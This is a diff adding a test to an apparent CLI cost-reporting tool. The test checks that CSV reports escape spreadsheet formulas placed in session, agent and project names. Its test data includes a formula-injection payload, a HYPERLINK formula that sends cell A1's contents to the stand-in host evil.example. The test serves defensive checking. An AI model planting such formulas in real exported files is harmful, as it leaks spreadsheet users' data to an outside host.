@@ -199,6 +199,21 @@ describe('status and export against a running Burnrate, for a tenant and over an
     const bounded = await burnrateAsync(['export', '--format', 'json', '--until', new Date(now).toISOString(), '--url', t.url, ...elsewhere()])
     expect(JSON.parse(bounded.stdout).calls.map((c: any) => c.cost_usd)).toEqual([1, 7])
   })
+
+  it('`report --csv` defuses the formulas a caller can put in a session, agent or project name, as the export does', async () => {
+    const names = ['=2+5', '@SUM(1+1)', '-3+4', '=HYPERLINK("http://evil.example/?"&A1;"click")']
+    for (const [i, n] of names.entries()) t.server.ledger.record(makeCall({ ts: now - 10_000 + i, session: n, agent: n, project: n, cost_usd: 0.5 }))
+    await t.server.ledger.flushed()
+    for (const kind of ['session', 'agent', 'project']) {
+      for (const where of [['--url', t.url], ['--local']]) {
+        const r = await burnrateAsync(['report', kind, '--csv', '--all', ...where, ...elsewhere()])
+        expect(r.code, r.stderr).toBe(0)
+        const cells = r.stdout.split('\r\n').slice(1).map((l) => l.split(',')[0])
+        expect(cells).toEqual(expect.arrayContaining(["'=2+5", "'@SUM(1+1)", "'-3+4", '"\'=HYPERLINK(""http://evil.example/?""&A1;""click"")"']))
+        for (const line of r.stdout.split('\r\n')) expect(line).not.toMatch(/(^|,)[=+@-]/)
+      }
+    }
+  })
 })
 
 describe('compact token counts', () => {
